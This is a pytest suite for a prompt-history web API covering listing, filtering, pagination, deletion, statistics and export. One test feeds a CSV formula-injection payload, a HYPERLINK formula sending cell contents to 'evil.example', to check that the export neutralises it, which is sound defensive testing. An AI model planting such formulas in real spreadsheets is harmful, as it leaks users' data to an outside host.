"""The history over HTTP."""

import csv
import io
import json
import sqlite3
import time
from contextlib import ExitStack, closing
from datetime import UTC, datetime, timedelta
from uuid import uuid4

import httpx
import pytest
from fastapi.testclient import TestClient

from prompt_improver.app import create_app
from prompt_improver.domain.errors import (
    RepositoryBusyError,
    RepositoryConnectionError,
    RepositoryCorruptError,
)
from prompt_improver.domain.history_filter import HistoryCursor
from prompt_improver.domain.history_record import COLUMNS
from prompt_improver.settings import Settings
from tests.error_bodies import error_body
from tests.histories import NOON, make_history
from tests.history_files import save_rows
from tests.in_memory_prompt_repository import InMemoryPromptRepository
from tests.scripted_improver import ScriptedImprover, make_backends
from tests.server_process import ServerProcess

HISTORY = "/api/v1/history"
STATISTICS = "/api/v1/statistics"
OFF = error_body("history_off")
UNKNOWN = error_body("improvement_not_found")


@pytest.fixture
def repository():
    return InMemoryPromptRepository()


@pytest.fixture
def make_client(tmp_path):
    with ExitStack() as stack:

        def make(repository=None, **settings) -> TestClient:
            defaults = {
                "_env_file": None, "llm_provider": "offline", "sqlite_auto_cleanup": False,
                "sqlite_db_path": str(tmp_path / "private" / "prompt_history.db"),
            }  # fmt: skip
            app = create_app(
                Settings(**defaults | settings),
                repository=repository,
                backends=make_backends(ScriptedImprover()),
            )
            # As a server would: an error that nobody expected is an answer too.
            return stack.enter_context(
                TestClient(app, base_url="http://localhost", raise_server_exceptions=False)
            )

        yield make


@pytest.fixture
def client(make_client, repository):
    return make_client(repository)


def add(repository, count=1, **changes):
    """Rows that are there; the client has opened the repository."""
    return [repository._keep(make_history(**changes)) for _ in range(count)]


def iso(text):
    """A moment of the database, as JSON has it."""
    return text and text.replace(" ", "T") + "Z"


def test_an_item_is_the_whole_row_by_its_column_names(make_client, tmp_path):
    client = make_client(sqlite_async_enabled=False)
    client.post("/api/v1/improve-prompt", json={"idea": "Design a REST API", "context": "ñ"})
    (item,) = client.get(HISTORY, params={"full": True}).json()["items"]
    assert item.pop("cut") is False
    with closing(sqlite3.connect(tmp_path / "private" / "prompt_history.db")) as connection:
        connection.row_factory = sqlite3.Row
        row = dict(connection.execute("SELECT * FROM prompt_history").fetchone())
    details = json.loads(row.pop("details"))
    assert set(item) == set(COLUMNS)
    wanted = dict.fromkeys(COLUMNS) | row | details
    wanted["guardrails"] = json.loads(row["guardrails"])
    wanted["timestamp"] = iso(row["timestamp"])
    wanted["kept_original"] = bool(row["kept_original"])
    wanted |= {"starred": bool(row["starred"]), "tags": []}
    assert item == wanted
    assert client.get(f"{HISTORY}/{item['prompt_id']}").json() == item


def test_times_are_iso_8601_in_utc_and_lead_back_to_their_row(client, repository):
    add(repository, imported_at=NOON + timedelta(days=1))
    (listed,) = client.get(HISTORY).json()["items"]
    shown = client.get(f"{HISTORY}/{listed['prompt_id']}").json()
    assert listed == shown | {"cut": False}
    for item in (listed, shown):
        assert item["timestamp"] == "2026-05-04T12:00:00.123Z"
        assert item["imported_at"] == "2026-05-05T12:00:00.123Z"
    for text in (shown["timestamp"], "2026-05-04 12:00:00.123"):
        moment = {"from": text, "to": text}
        assert client.get(HISTORY, params=moment).json()["items"] == [listed]
        assert client.get(STATISTICS, params=moment).json()["total"]["improvements"] == 1


def test_a_list_has_300_characters_of_idea_and_prompt_and_says_where_one_goes_on(
    client, repository
):
    for length in (300, 301, 5_000):
        add(repository, original_idea="ñ" * length)
    add(repository, improved_prompt=" " * 400 + "p" * 400)

    def lengths(**parameters):
        items = client.get(HISTORY, params=parameters).json()["items"]
        return [(len(i["original_idea"]), len(i["improved_prompt"]), i["cut"]) for i in items]

    short, idea = len("# Role\nAPI designer"), len("Design a REST API")
    cut = [(idea, 300, True), (300, short, True), (300, short, True), (300, short, False)]
    assert lengths() == cut
    whole = [(idea, 800), (5_000, short), (301, short), (300, short)]
    assert lengths(full=True) == [(*each, False) for each in whole]


def test_whole_items_come_fifty_a_page_at_the_most(client):
    assert client.get(HISTORY, params={"full": True, "limit": 50}).status_code == 200
    answer = client.get(HISTORY, params={"full": True, "limit": 51})
    assert answer.status_code == 422
    (problem,) = answer.json()["detail"]
    assert problem["loc"] == ["query", "limit"]
    assert "at most 50 with full=true" in problem["msg"]


def test_cursors_lead_through_all_pages_while_rows_come_in(client, repository):
    for number in range(7):
        add(repository, role=str(number), timestamp=NOON + timedelta(minutes=number))
    found, cursor = [], None
    while True:
        parameters = {"limit": 3} | ({"cursor": cursor} if cursor else {})
        page = client.get(HISTORY, params=parameters).json()
        found += [item["role"] for item in page["items"]]
        add(repository, role="new", timestamp=NOON + timedelta(days=1))
        cursor = page["next_cursor"]
        if cursor is None:
            break
    assert found == list("6543210")


def test_fifty_items_are_a_page_unless_told_otherwise(client, repository):
    add(repository, 501)
    assert len(client.get(HISTORY).json()["items"]) == 50
    assert len(client.get(HISTORY, params={"limit": 500}).json()["items"]) == 500


def test_backend_time_and_text_narrow_the_history(client, repository):
    for day in range(4):
        backend = "few-shot" if day % 2 else "offline"
        add(repository, role=str(day), backend=backend, timestamp=NOON + timedelta(days=day))

    def roles(**parameters):
        answer = client.get(HISTORY, params=parameters)
        assert answer.status_code == 200, answer.text
        return [item["role"] for item in answer.json()["items"]]

    assert roles(backend="few-shot") == ["3", "1"]
    assert roles(**{"from": "2026-05-05", "to": "2026-05-06"}) == ["2", "1"]
    assert roles(**{"from": "2026-05-06T12:00:00.123"}) == ["3", "2"]
    assert roles(**{"from": "2026-05-06 12:00:00.124"}) == ["3"]
    assert roles(to="2026-05-04T14:00:00.123+02:00") == ["0"]
    assert roles(to="2026-05-04T12:00:00.122Z") == []
    assert roles(q="rest ap") == ["3", "2", "1", "0"]
    assert roles(q="missing") == roles(q="!?") == []
    assert roles(q="") == roles(q="  ") == roles()


@pytest.mark.parametrize(
    ("path", "parameters"),
    [
        *((HISTORY, {"limit": limit}) for limit in ("0", "501", "-1", "1.5", "xq9z", "9" * 5000)),
        *((HISTORY, {"cursor": cursor}) for cursor in ("", "xq9z", "xq9z" * 500, "é")),
        (HISTORY, {"backend": "xq9z"}),
        *(
            (path, {name: text})
            for path in (HISTORY, STATISTICS)
            for name in ("from", "to")
            for text in (
                "", "xq9z", "2026-02-30", "2026-13-01", "0000-01-01", "2026-05-04T25:00", "now",
                "9999-12-31T23:59:59-12:00", "0001-01-01T00:00:00+12:00",
                "2026-05-04 12:00:00 02:00",
                "xq9z" * 500, "1e9", "٢٠٢٦-٠٥-٠٤",
            )
        ),
        *((path, {"from": "2026-05-05", "to": "2026-05-04"}) for path in (HISTORY, STATISTICS)),
        (HISTORY, {"q": "xq9z\0"}),
        (HISTORY, {"q": "xq9z" * 500}),
        (f"{HISTORY}/export", {"format": "xq9z"}),
        *((f"{HISTORY}/{each}", {}) for each in ("xq9z", "1", "xq9z" * 500, "%00", "é", "{}")),
    ],
)  # fmt: skip
def test_what_does_not_fit_is_422_without_repeating_it(client, path, parameters):
    answer = client.get(path, params=parameters)
    assert answer.status_code == 422
    assert "Value error" not in answer.text
    assert answer.json()["detail"][0]["loc"][0] in ("query", "path")
    assert "xq9z" not in answer.text
    assert len(answer.text) < 500


def test_an_id_that_is_unknown_is_404_and_a_wrong_one_422(client, repository):
    (row,) = add(repository)
    for call in (client.get, client.delete):
        answer = call(f"{HISTORY}/{uuid4()}")
        assert (answer.status_code, answer.json()) == (404, UNKNOWN)
        assert call(f"{HISTORY}/not-a-uuid").status_code == 422
    assert repository.rows == [row]


def test_what_is_deleted_is_gone_and_tidied_up(client, repository):
    kept, gone = add(repository, 2)
    answer = client.delete(f"{HISTORY}/{gone.prompt_id}")
    assert (answer.status_code, answer.content) == (204, b"")
    assert client.delete(f"{HISTORY}/{gone.prompt_id}").status_code == 404
    assert repository.rows == [kept]
    deadline = time.monotonic() + 5
    while not repository.compactions and time.monotonic() < deadline:
        time.sleep(0.02)
    assert repository.compactions == 1


def test_a_surrogate_in_the_address_is_no_fault_of_ours(client):
    assert client.get(f"{HISTORY}?q=%ED%A0%80").status_code == 200
    assert client.get(f"{HISTORY}/%ED%A0%80").status_code == 422


def test_statistics_count_in_all_per_backend_and_per_day(client, repository):
    add(repository, 2, starred=True, rating=-1)
    add(repository, backend="few-shot", confidence=None, timestamp=NOON + timedelta(days=1))
    figures = client.get(STATISTICS).json()
    opinions = [figures[name] for name in ("starred", "rated_good", "rated_bad")]
    assert opinions == [2, 0, 2]
    assert figures["total"] == {
        "improvements": 3, "rated": 2, "average_confidence": 0.75, "timed": 3,
        "average_latency_ms": 12.5, "model_calls": 3, "input_tokens": 930, "output_tokens": 360,
    }  # fmt: skip
    assert figures["backends"]["few-shot"]["average_confidence"] is None
    assert [(day["day"], day["improvements"]) for day in figures["days"]] == [
        ("2026-05-05", 1),
        ("2026-05-04", 2),
    ]
    narrowed = client.get(STATISTICS, params={"from": "2026-05-05", "to": "2026-05-05"}).json()
    assert narrowed["total"]["improvements"] == 1
    assert list(narrowed["backends"]) == ["few-shot"]


def test_an_export_in_json_lines_holds_every_row(client, repository):
    add(repository, 450, original_idea="line one\nline two \u2028 ñ 😀")
    answer = client.get(f"{HISTORY}/export")
    assert answer.headers["content-type"] == "application/x-ndjson"
    assert 'filename="prompt_history.jsonl"' in answer.headers["content-disposition"]
    lines = [json.loads(line) for line in answer.content.split(b"\n") if line]
    items = client.get(HISTORY, params={"limit": 500}).json()["items"]
    assert [item.pop("cut") for item in items] == [False] * 450
    times = ("timestamp", "imported_at")
    assert [line | {name: iso(line[name]) for name in times} for line in lines] == items[::-1]
    assert lines[0]["timestamp"] == "2026-05-04 12:00:00.123"


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r"])
def test_no_cell_of_a_csv_export_is_a_formula(client, repository, sign):
    text = f'{sign}HYPERLINK("http://evil.example/?"&A1)\nsecond, "line"'
    add(repository, original_idea=text, model_version=f"{sign}1", guardrails=(text, "b"))
    answer = client.get(f"{HISTORY}/export", params={"format": "csv"})
    assert answer.headers["content-type"].startswith("text/csv; charset=utf-8")
    heading, row = csv.reader(io.StringIO(answer.text, newline=""))
    assert heading == list(COLUMNS)
    record = dict(zip(heading, row, strict=True))
    assert record["original_idea"] == f"'{text}"
    assert record["model_version"] == f"'{sign}1"
    assert json.loads(record["guardrails"]) == [text, "b"]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_an_export_of_nothing_is_empty_or_a_heading(client):
    assert client.get(f"{HISTORY}/export").content == b""
    answer = client.get(f"{HISTORY}/export", params={"format": "csv"})
    assert answer.text == ",".join(COLUMNS) + "\r\n"


CALLS = [
    ("GET", HISTORY),
    ("DELETE", f"{HISTORY}?tag=work"),
    ("DELETE", f"{HISTORY}?tag=work&dry_run=true"),
    ("GET", f"{HISTORY}/6f1d4a52-5e0a-4c8c-9d6b-0d3f6d7c1b2e/versions"),
    ("GET", f"{HISTORY}/6f1d4a52-5e0a-4c8c-9d6b-0d3f6d7c1b2e/diff"),
    ("GET", f"{HISTORY}?q=word"),
    ("GET", f"{HISTORY}/6f1d4a52-5e0a-4c8c-9d6b-0d3f6d7c1b2e"),
    ("DELETE", f"{HISTORY}/6f1d4a52-5e0a-4c8c-9d6b-0d3f6d7c1b2e"),
    ("GET", f"{HISTORY}/export"),
    ("GET", STATISTICS),
]


@pytest.mark.parametrize(("method", "path"), CALLS)
def test_with_the_history_off_every_call_says_what_to_set(make_client, method, path):
    answer = make_client(sqlite_enabled=False).request(method, path)
    assert (answer.status_code, answer.json()) == (503, OFF)


@pytest.mark.parametrize(("method", "path"), CALLS)
@pytest.mark.parametrize(
    "kind", [RepositoryConnectionError, RepositoryBusyError, RepositoryCorruptError]
)
def test_a_history_that_fails_is_503_and_the_cause_is_in_the_log(
    client, repository, caplog, method, path, kind
):
    repository.fail_with = kind("the disk is on fire")
    answer = client.request(method, path)
    assert (answer.status_code, answer.json()) == (503, error_body(kind.code))
    assert "the disk is on fire" in caplog.text


def test_every_call_is_described_and_listed(client):
    document = client.get("/openapi.json").json()
    listed = client.get("/").json()["endpoints"].values()
    for path, method in (
        (HISTORY, "get"), (f"{HISTORY}/{{prompt_id}}", "get"), (f"{HISTORY}/export", "get"),
        (f"{HISTORY}/{{prompt_id}}", "delete"), (STATISTICS, "get"), (HISTORY, "delete"),
        (f"{HISTORY}/{{prompt_id}}", "patch"), (f"{HISTORY}/{{prompt_id}}/versions", "get"),
        (f"{HISTORY}/{{prompt_id}}/diff", "get"),
    ):  # fmt: skip
        assert f"{method.upper()} {path}" in listed
        described = document["paths"][path][method]
        assert {"422", "500", "503"} <= set(described["responses"])
        assert ("404" in described["responses"]) == ("{prompt_id}" in path)
        for parameter in described.get("parameters", []):
            assert parameter["description"], (path, parameter["name"])
    for name in (
        "HistoryItem", "HistoryResponse", "StatisticsResponse", "Usage", "DayUsage",
        "ImprovementChanges", "VersionsResponse", "DeletionResponse", "DiffResponse",
        "DiffOperation",
    ):  # fmt: skip
        for field, schema in document["components"]["schemas"][name]["properties"].items():
            assert schema.get("description"), (name, field)


def test_the_real_server_searches_exports_and_outlives_a_client_that_hangs_up(tmp_path):
    path = tmp_path / "data" / "prompt_history.db"
    path.parent.mkdir()
    save_rows(path, 6_000, days_ago=1)

    def on_disk():
        return b"".join(each.read_bytes() for each in path.parent.glob("prompt_history.db*"))

    with ServerProcess(tmp_path, SQLITE_ASYNC_ENABLED="false", LOG_LEVEL="INFO") as server:
        answer = server.improve("Diseña la autenticación OAuth")
        assert answer.json()["saved"] == "saved"
        found = server.client.get(HISTORY, params={"q": "autenticacion oau"}).json()["items"]
        assert [item["prompt_id"] for item in found] == [answer.json()["prompt_id"]]

        # Half of one export is read; then the client is gone.
        with (
            httpx.Client(base_url=server.url, trust_env=False) as impatient,
            impatient.stream("GET", f"{HISTORY}/export") as stream,
        ):
            for chunk in stream.iter_raw():
                assert chunk
                break
        whole = server.client.get(f"{HISTORY}/export")
        assert b"nticacion" in on_disk()
        assert whole.content.count(b"\n") == 6_001
        deleted = server.client.delete(f"{HISTORY}/{answer.json()['prompt_id']}")
        assert deleted.status_code == 204
        deadline = time.monotonic() + 10
        while b"nticacion" in on_disk() and time.monotonic() < deadline:
            time.sleep(0.1)
        assert b"nticacion" not in on_disk()
        assert server.improve("still there").json()["saved"] == "saved"
        server.stop()
        assert "Traceback" not in server.log
        assert "Unexpected" not in server.log
        assert "ERROR" not in server.log


def test_a_cursor_is_for_urls_and_says_nothing_of_a_later_form():
    cursor = HistoryCursor(datetime(2026, 5, 4, 12, tzinfo=UTC), 2**63 - 1)
    text = cursor.encode()
    assert HistoryCursor.decode(text) == cursor
    assert str(httpx.URL("http://a/", params={"cursor": text})) == f"http://a/?cursor={text}"


def test_a_wrong_method_is_told_all_that_the_address_takes(client):
    answer = client.put(f"{HISTORY}/6f1d4a52-5e0a-4c8c-9d6b-0d3f6d7c1b2e")
    assert (answer.status_code, answer.headers["Allow"]) == (405, "DELETE, GET, HEAD, PATCH")
    assert answer.json() == error_body("method_not_allowed")
